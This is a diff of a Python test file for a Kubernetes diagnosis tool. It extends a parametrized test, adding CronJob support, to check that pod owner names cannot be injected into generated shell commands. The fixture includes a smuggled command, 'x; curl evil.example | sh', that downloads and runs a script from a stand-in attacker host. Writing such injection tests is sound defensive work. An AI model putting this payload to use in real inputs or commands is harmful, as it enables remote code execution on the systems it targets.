@@ -10,7 +10,7 @@ from tests.diagnosis.installations import WHOLE, own_pod
 from tests.diagnosis.worlds import EPC, around, belonging, container, event, node, pod, saying, with_spec, workload
 from tests.labour import least_labour
 
-from donjon.diagnosis.commands import change, remake
+from donjon.diagnosis.commands import change, cron_job_of, remake
 from donjon.diagnosis.explanation import ClusterState
 from donjon.diagnosis.installation import DonjonState, Sight
 from donjon.diagnosis.pod import MAX_FINDINGS, explain
@@ -253,8 +253,8 @@ def test_nobody_is_told_to_give_a_node_hundreds_of_labels() -> None:
     assert_plain(answer)
 
 
-@pytest.mark.parametrize("way", [change, remake])
-@pytest.mark.parametrize("kind", ["Job", "StatefulSet", "x; evil"])
+@pytest.mark.parametrize("way", [change, remake, cron_job_of])
+@pytest.mark.parametrize("kind", ["Job", "StatefulSet", "CronJob", "x; evil"])
 def test_an_owner_such_as_no_thing_can_be_called_becomes_part_of_no_command(kind: str, way: Callable[[JsonObject], str]) -> None:
     """Whoever makes a pod writes its owners, and the API server looks at no name there."""
     owned = belonging(pod("1Ti"), {"kind": kind, "metadata": {"name": "x; curl evil.example | sh", "uid": "u"}})
